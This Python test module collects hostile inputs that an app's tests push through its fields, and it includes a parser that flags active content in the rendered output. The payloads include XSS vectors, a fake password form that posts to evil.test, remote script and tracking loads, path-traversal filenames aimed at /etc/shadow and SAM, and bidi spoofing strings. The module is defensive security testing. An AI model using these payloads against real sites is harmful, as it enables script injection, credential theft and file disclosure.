"""The shared hostile corpus, and the check that output built from it is inert.

Every app's tests push these payloads through their inputs (subjects, bodies, names,
filenames, articles) and run :func:`active_content` over each page, e-mail or export that
shows them. Every security fix adds its payload here.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

#: Payloads for any free-text input: bodies, subjects, names, comments.
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=https://evil.test/><link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    '<a href="vbscript:msgbox(1)">click</a>',
    "<a href=javascript:alert(1)>click</a>",
    "<div onclick=alert(1) onmouseover=alert(2)>hover</div>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[click][x]",
    '[x](https://ok.test "title" onmouseover=alert(1))',
    "![x](https://evil.test/track.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "Invoice \u202efdp.exe",
    "pay\u200bpal\u200b.test \ufeffsupport",
    "\u2067admin\u2069 approved",
)

#: Payloads for file names (uploads) and other single-line labels.
FILENAMES: tuple[str, ...] = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "invoice\u202efdp.exe",
    "re\u200bport.pdf",
    ".htaccess",
    "...",
    "name\x00.pdf",
    "line\r\nbreak.txt",
    "<script>alert(1)</script>.html",
    "\u2067evil\u2069.pdf",
    "a" * 500 + ".pdf",
    "CON.txt",
    "",
)

#: Elements that must never appear in output built from user content.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "style", "form", "input", "button",
        "textarea", "select", "svg", "math", "img", "object", "embed", "base", "link",
        "meta", "video", "audio", "source",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
INVISIBLE_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\ufeff]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
# Browsers drop ASCII tab and newline anywhere in a URL and trim controls and spaces.
_URL_NOISE = re.compile(r"[\t\n\r]")


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see in ``url`` (lower case), or None for a relative URL."""
    cleaned = _URL_NOISE.sub("", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \x0b\x0c")
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name} attribute on <{tag}>")
            if name in ("style", "srcdoc"):
                self.problems.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        if INVISIBLE_CONTROLS.search(data):
            self.problems.append(f"bidi or zero-width control in text {data!r}")


def active_content(html: str) -> list[str]:
    """Everything in ``html`` that could run, load, submit or deceive; empty when inert.

    Parses with the standard library's HTML parser (entities in attribute values decoded, as a
    browser does) and reports forbidden elements, event-handler and style attributes, URLs
    whose scheme is not http, https or mailto, and bidi or zero-width controls in text.
    """
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
